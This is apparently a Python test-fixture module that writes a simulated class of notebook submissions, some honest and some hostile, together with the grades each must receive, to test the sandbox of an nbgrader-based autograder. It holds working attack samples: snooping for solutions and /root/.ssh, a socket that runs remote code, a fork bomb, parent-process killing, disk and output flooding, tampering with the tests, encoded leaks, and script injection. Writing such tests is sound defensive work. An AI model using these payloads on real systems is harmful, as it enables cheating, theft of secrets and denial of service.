"""A simulated class for ch01_linear: honest, broken and hostile submissions, each with its grade.

The assignment is a frozen copy of the course's first exercise (ch01_linear/ch01_linear.ipynb
here: linear_scores 3 points, bias_trick 2, network_forward 3, hidden tests with `_own_work`), so
the corpus does not change when the course's chapters do; `make_course` builds a throw-away course
with it and the repository's live nbgrader_config.py.

`write_corpus(course, ctx)` writes every case into course/submitted/<name>/ch01_linear/; `CASES`
holds what each must get from `python -m coursegrade autograde`: the score (out of 8: tasks worth
3, 2 and 3 points) and the problem kinds the report must list. `write_class(course, n)` writes a
larger class for the benchmark (honest, blank and partly wrong submissions, cycled).

ctx: {"port": a TCP port on 127.0.0.1 where the test listens, "course": the course folder,
      "repo": the repository (its solutions/ folder is what a snooping student would look for)}.
"""
import json
import re
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
NAME = "ch01_linear"
SOURCE = Path(__file__).parent / NAME / f"{NAME}.ipynb"
MARKER = re.compile(r"^\s*### (BEGIN|END) (SOLUTION|HIDDEN TESTS)\s*$")

# Passes every visible test but hard-codes three layers, so the hidden 4-layer test fails.
WRONG = {
    "network_forward": '''def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def network_forward(X, params):
    (W1, b1), (W2, b2), (W3, b3) = params[0], params[1], params[-1]
    return sigmoid(sigmoid(X @ W1 + b1) @ W2 + b2) @ W3 + b3
''',
}


def make_course(tmp):
    """A course folder with the live nbgrader_config.py and the frozen assignment as its source."""
    course = Path(tmp) / "course"
    (course / "solutions" / NAME).mkdir(parents=True)
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copy(SOURCE, course / "solutions" / NAME)
    return course


def solution_sources():
    """grade_id -> source of each solution cell of the instructor's notebook, markers removed."""
    out = {}
    for cell in nbformat.read(SOURCE, as_version=4).cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            out[meta["grade_id"]] = "\n".join(l for l in cell.source.splitlines() if not MARKER.match(l))
    return out


ZEROS = '''def linear_scores(X, W, b):
    return np.zeros(X.shape[:-1] + (W.shape[0],))
'''

SNOOP = '''import glob, json, os
found = []
places = ["../../../gradebook.db", "../../../solutions", "../../../submitted", "../../../autograded",
          "../../../source", "{course}/gradebook.db", "{course}/solutions", "{course}/submitted/correct",
          "{repo}/solutions/ch01_linear/ch01_linear.ipynb", "{repo}/gradebook.db", "/root/.ssh"]
places += glob.glob("*.ipynb") + glob.glob("../*")
for place in places:
    if os.path.exists(place):
        found.append(place)
for place in ["{course}/PWNED", "../../../PWNED", "/tmp/PWNED_coursegrade"]:
    try:
        open(place, "w").write("escaped")
    except OSError:
        pass
print("SNOOP found:", found)
# A cheat that works if the solutions are readable: run the instructor's solution cells.
solution = "{repo}/solutions/ch01_linear/ch01_linear.ipynb"
if os.path.exists(solution):
    for c in json.load(open(solution))["cells"]:
        if c["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(c["source"]))
'''

NETWORK = '''import socket
try:
    conn = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    exec(conn.recv(100000).decode())          # the "answer server" sends working code
    print("NET connected")
except OSError as e:
    print("NET blocked:", type(e).__name__)
'''

PATCH_BUILTINS = '''import builtins, types
_isinstance = isinstance
builtins.isinstance = lambda obj, kind: False if kind is types.ModuleType else _isinstance(obj, kind)
import nnutils.linear as L
def linear_scores(X, W, b):
    return L.linear_scores(X, W, b)
'''

PATCH_NNUTILS = '''from nnutils.linear import linear_scores as _ref
_ref.__module__ = "__main__"        # hide where it comes from
def linear_scores(X, W, b):
    return _ref(X, W, b)
'''

FRAME_TAMPER = '''import sys
def linear_scores(X, W, b):
    frame = sys._getframe(1)                     # find the test's frame (its globals hold `want`)
    while frame is not None and "want" not in frame.f_globals:
        frame = frame.f_back
    if frame is None:
        return X @ W.T + b                       # honest while only the visible tests look
    g = frame.f_globals
    if X.ndim == 1:
        return g["want"][0]
    g["want"] = np.zeros((X.shape[0], W.shape[0]))   # rewrite the hidden test's expected value
    return g["want"]
'''

LOOP_FOREVER = '''while True:          # survives KeyboardInterrupt too
    try:
        pass
    except KeyboardInterrupt:
        pass
'''

KILL_PARENT = '''import os, signal
os.kill(os.getppid(), signal.SIGKILL)
'''
KILL_GROUP = '''import os, signal
os.killpg(0, signal.SIGKILL)
'''

FORK_BOMB = '''import os
r, w = os.pipe()
children = 0
try:
    while True:
        if os.fork() == 0:
            os.close(w)
            os.read(r, 1)            # wait until the parent gives up, then leave
            os._exit(0)
        children += 1
except OSError as e:
    print("fork stopped after", children, "children:", type(e).__name__)
os.close(w)
for _ in range(children):
    os.wait()
'''


# ---- attacks on a test that runs next to student code (each must fail in the new design) -------

# Look for the test's expected value where stock nbgrader keeps it: the notebook namespace, the
# garbage collector's view of every dict (frames' globals included), IPython's input history.
READ_TEST_STATE = '''import gc, sys
def linear_scores(X, W, b):
    places = [sys.modules["__main__"].__dict__] + [o for o in gc.get_objects() if isinstance(o, dict)]
    for ns in places:
        want = ns.get("want") if "X_" in ns or "want" in ns else None
        if want is not None and np.shape(want) == (X.shape[0], W.shape[0]):
            return want
    if X.ndim == 1 or X.shape[0] == 2:            # the visible inputs: honest
        return X @ W.T + b
    return np.zeros((X.shape[0], W.shape[0]))
print("history holds hidden tests:", any(("BEGIN HIDDEN" + " TESTS") in c for c in In))
'''

# Define names the test uses, so that its own expectation is computed by the student.
SHADOW_TEST_NAMES = '''def sum(*args, **kwargs):
    return 0.0
def isinstance(*args):
    return False
def _own_work(fn):
    return None
np.allclose = lambda *a, **k: True
def linear_scores(X, W, b):
    return np.zeros(X.shape[:-1] + (W.shape[0],))
'''

# Change the test's input arrays in place before it compares against them (only on hidden inputs).
MUTATE_INPUTS = '''def bias_trick(X, W, b):
    if X.ndim == 2 and X.shape[0] == 6:           # the hidden test's batch
        X[...] = 0.0
        W[...] = 0.0
        b[...] = 0.0
        return np.zeros((6, 5)) + np.eye(1, 5, 4), np.zeros((3, 5))
    X1 = np.concatenate([X, np.ones(X.shape[:-1] + (1,))], axis=-1)
    return X1, np.concatenate([W, b[:, None]], axis=1)
'''

# Call the course's reference through a path no static check sees.
DYNAMIC_IMPORT = '''def linear_scores(X, W, b):
    reference = getattr(__builtins__, "__import__", None) or __import__
    module = reference("importlib").import_module("nnutils.linear")
    return module.linear_scores(X, W, b)
'''

# Carry what the kernel can see into the student's own feedback, encoded.
LEAK_HOOK = '''import base64, codecs
_seen, _inputs = [], []
get_ipython().events.register("pre_run_cell", lambda info: _seen.append(info.raw_cell))
'''
LEAK_RECORDING_SOLUTION = '''def linear_scores(X, W, b):
    _inputs.append(np.asarray(X).tolist())
    return X @ W.T + b
'''
LEAK_OUT = '''from IPython.display import HTML, display
text = "\\n".join(_seen + list(In)) + repr(_inputs)
print("B64:", base64.b64encode(text.encode()).decode())
display(HTML('<div data-x="' + text.encode().hex() + '">hex</div>'))
raise ValueError(codecs.encode(text, "rot13"))
'''

# Student HTML/JS that would run when the feedback page is opened.
LIVE_HTML = '''from IPython.display import HTML, display
display(HTML('<script>document.title = "PWNED"</script><img src="x" onerror="document.title = 1">'))
'''
LIVE_MARKDOWN = '<script>document.title = "PWNED-MD"</script><img src="y" onerror="document.title = 2">'

PRINT_FLOOD = '''import sys
chunk = "x" * 2**20
for _ in range(48):                   # 48 MiB without a newline (the cap: 1 MiB a cell)
    sys.stdout.write(chunk)
'''

DISK_FILL = '''block = b"\\0" * 2**20
for name in ("fill1.bin", "fill2.bin"):       # 2 x 200 MiB: each within the file-size limit
    with open(name, "wb") as f:
        for _ in range(200):
            f.write(block)
import time
time.sleep(5)
'''


@dataclass
class Case:
    name: str
    score: float
    problems: set = field(default_factory=set)    # kinds the report must list ({} = none at all)
    needs_bwrap: bool = False                      # expected result holds only inside bubblewrap
    exact: bool = True                             # no other problem kinds allowed


CASES = [
    Case("correct", 8), Case("correct_twin", 8), Case("blank", 0), Case("warns", 8),
    Case("partial", 5), Case("partial_twin", 5),
    Case("loop_in_solution", 5, {"timeout"}),
    Case("loop_in_ungraded_cell", 8, {"timeout"}),
    Case("memory_bomb", 6, {"memory"}),
    Case("fork_bomb", 8, needs_bwrap=True),     # RLIMIT_NPROC does not bind root (fallback as root)
    Case("corrupt_json", 0, {"corrupt"}),
    Case("missing_notebook", 0, {"missing"}),
    Case("deleted_test_cell", 8, {"deleted-cell"}),
    Case("edited_test_cell", 5, {"edited-cell"}),
    # monkeypatching the kernel changes nothing the tests use: they run in the grader
    Case("patch_allclose", 5, {"suspicious"}),
    Case("patch_builtins", 5, {"suspicious"}),        # and nnutils cannot be imported
    Case("patch_nnutils", 5, {"suspicious"}),
    Case("frame_tamper", 8, {"suspicious"}),          # never finds the test's frame: stays honest
    Case("read_test_state", 5, {"suspicious"}),
    Case("shadow_test_names", 5, {"suspicious"}),
    Case("mutate_inputs", 6),
    Case("dynamic_import", 5, {"suspicious"}),
    Case("leak_encoded", 8),
    Case("live_html", 8),
    # everyday notebooks: graded from the release's structure, never failed for their metadata
    Case("duplicate_cell", 8, {"duplicate-cell"}),
    Case("lambda_solution", 8),
    Case("new_graded_cell", 8, {"edited-metadata"}),
    Case("solution_made_test", 8, {"edited-metadata"}),
    Case("unknown_schema", 8, {"edited-metadata"}),
    Case("changed_points", 8, {"edited-metadata"}),
    Case("changed_kernelspec", 8, {"edited-metadata"}),
    # the grader's own resources
    Case("print_flood", 8, {"output"}),
    Case("disk_fill", 8, {"quota", "kernel"}, exact=False),
    Case("hard_link", 0, {"hardlink"}),
    Case("kill_parent", 8, {"kernel", "suspicious"}, needs_bwrap=True),
    Case("symlink_to_solutions", 0, {"symlink"}),
    Case("snoop", 0, needs_bwrap=True, exact=False),
    Case("network", 0, needs_bwrap=True, exact=False),
]


def released(course):
    return nbformat.read(Path(course) / "exercises" / NAME / f"{NAME}.ipynb", as_version=4)


def notebook(course, answers, extra=()):
    """The released notebook with `answers` in its solution cells; extra: (position, source) cells."""
    nb = released(course)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    for pos, src in sorted(extra, reverse=True):
        nb.cells.insert(pos if pos >= 0 else len(nb.cells), nbformat.v4.new_code_cell(src))
    return nb


def index_of(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def build(name, course, ctx):
    """The submitted notebook (or raw text) for one case."""
    sol, wrong = solution_sources(), WRONG
    warned = "import warnings\nwarnings.warn('a harmless warning', DeprecationWarning)\n"
    looping = sol["network_forward"].replace("    Z = X\n", "    Z = X\n    while True:\n        pass\n")
    assert looping != sol["network_forward"]
    simple = {
        "correct": sol, "correct_twin": sol, "blank": {}, "partial": {**sol, **wrong},
        "partial_twin": {**sol, **wrong}, "warns": {**sol, "linear_scores": warned + sol["linear_scores"]},
        "loop_in_solution": {**sol, "network_forward": looping},
        "memory_bomb": {**sol, "bias_trick": "big = bytearray(2**40)   # 1 TiB\n" + sol["bias_trick"]},
        "patch_allclose": {**sol, "linear_scores": "np.allclose = lambda *a, **k: True\n" + ZEROS},
        "patch_builtins": {**sol, "linear_scores": PATCH_BUILTINS},
        "patch_nnutils": {**sol, "linear_scores": PATCH_NNUTILS},
        "frame_tamper": {**sol, "linear_scores": FRAME_TAMPER},
    }
    hostile = {
        "read_test_state": {**sol, "linear_scores": READ_TEST_STATE},
        "shadow_test_names": {**sol, "linear_scores": SHADOW_TEST_NAMES},
        "mutate_inputs": {**sol, "bias_trick": MUTATE_INPUTS},
        "dynamic_import": {**sol, "linear_scores": DYNAMIC_IMPORT},
        "lambda_solution": {**sol, "linear_scores": "linear_scores = lambda X, W, b: X @ W.T + b\n"},
    }
    if name in hostile:
        return notebook(course, hostile[name])
    if name == "leak_encoded":
        return notebook(course, {**sol, "linear_scores": LEAK_RECORDING_SOLUTION}, [(0, LEAK_HOOK), (-1, LEAK_OUT)])
    if name == "live_html":
        nb = notebook(course, sol, [(-1, LIVE_HTML)])
        nb.cells.insert(1, nbformat.v4.new_markdown_cell(LIVE_MARKDOWN))
        nb.cells.insert(index_of(nb, "linear_scores") + 1, nbformat.v4.new_code_cell(LIVE_HTML))
        return nb
    if name == "print_flood":
        return notebook(course, sol, [(-1, PRINT_FLOOD)])
    if name == "disk_fill":
        return notebook(course, sol, [(-1, DISK_FILL)])
    if name in ("duplicate_cell", "new_graded_cell", "solution_made_test", "unknown_schema", "changed_points",
                "changed_kernelspec"):
        return edited_metadata(name, notebook(course, sol))
    if name == "hard_link":
        return ("hardlink", notebook(course, sol))
    if name == "snoop":
        return notebook(course, {"linear_scores": SNOOP.format(**ctx)})
    if name == "network":
        return notebook(course, {"linear_scores": NETWORK.format(**ctx)})
    if name in simple:
        return notebook(course, simple[name])
    if name == "loop_in_ungraded_cell":
        return notebook(course, sol, [(-1, LOOP_FOREVER)])
    if name == "fork_bomb":      # before the tests, so that its output is kept
        return notebook(course, sol, [(index_of(released(course), "linear_scores"), FORK_BOMB)])
    if name == "kill_parent":
        nb = released(course)
        return notebook(course, sol, [(index_of(nb, "bias_trick"), KILL_PARENT), (index_of(nb, "network_forward"), KILL_GROUP)])
    if name == "corrupt_json":
        return json.dumps(nbformat.v4.writes(notebook(course, sol)))[: 2000]   # truncated JSON
    if name == "missing_notebook":
        return None
    if name == "symlink_to_solutions":      # the "notebook" is the instructor's solution
        return Path(course) / "solutions" / NAME / f"{NAME}.ipynb"
    if name == "deleted_test_cell":
        nb = notebook(course, sol)
        del nb.cells[index_of(nb, "test_bias_trick")]
        return nb
    if name == "edited_test_cell":
        nb = notebook(course, {**sol, **wrong})
        nb.cells[index_of(nb, "test_network_forward")].source = "pass  # my code is fine"
        return nb
    raise KeyError(name)


def edited_metadata(name, nb):
    """Everyday edits of nbgrader's metadata (JupyterLab's cell toolbar, a copy-pasted cell...)."""
    import copy
    meta = lambda gid: nb.cells[index_of(nb, gid)].metadata
    if name == "duplicate_cell":
        i = index_of(nb, "linear_scores")
        nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
        nb.cells[i + 1].id = "copied-cell"
    elif name == "new_graded_cell":
        nb.cells.append(nbformat.v4.new_code_cell("print('bonus')", metadata={"nbgrader": {
            "grade": True, "grade_id": "my_bonus", "locked": False, "points": 100, "schema_version": 3,
            "solution": False, "task": False}}))
    elif name == "solution_made_test":
        meta("linear_scores")["nbgrader"].update(grade=True, locked=True, solution=False, points=3)
    elif name == "unknown_schema":
        meta("bias_trick")["nbgrader"]["schema_version"] = 99
    elif name == "changed_points":
        meta("test_linear_scores")["nbgrader"]["points"] = 300
    elif name == "changed_kernelspec":
        nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    return nb


def write_submission(course, student, nb):
    dest = Path(course) / "submitted" / student / NAME
    dest.mkdir(parents=True, exist_ok=True)
    if isinstance(nb, tuple) and nb[0] == "hardlink":    # a file linked to one outside the folder
        nbformat.write(nb[1], dest / f"{NAME}.ipynb")
        outside = Path(course) / "outside.txt"
        outside.write_text("the instructor's file")
        (dest / "data.txt").hardlink_to(outside)
        return
    if isinstance(nb, Path):
        (dest / f"{NAME}.ipynb").symlink_to(nb)
    elif nb is None:
        (dest / "my_notebook_renamed.ipynb").write_text(nbformat.writes(released(course)))
    elif isinstance(nb, str):
        (dest / f"{NAME}.ipynb").write_text(nb)
    else:
        nbformat.write(nb, dest / f"{NAME}.ipynb")


def write_corpus(course, ctx, cases=CASES, bwrap=True):
    """Write every case (without bubblewrap, not those that would really escape or harm)."""
    for case in cases:
        if bwrap or not case.needs_bwrap:
            write_submission(course, case.name, build(case.name, course, ctx))


def write_class(course, n):
    """n ordinary students (correct, partly wrong, blank, cycled) for the benchmark."""
    kinds = ["correct", "partial", "correct", "blank"]
    expected = {}
    for i in range(n):
        kind = kinds[i % len(kinds)]
        student = f"s{i:03d}_{kind}"
        write_submission(course, student, build(kind, course, {}))
        expected[student] = {"correct": 8.0, "partial": 5.0, "blank": 0.0}[kind]
    return expected
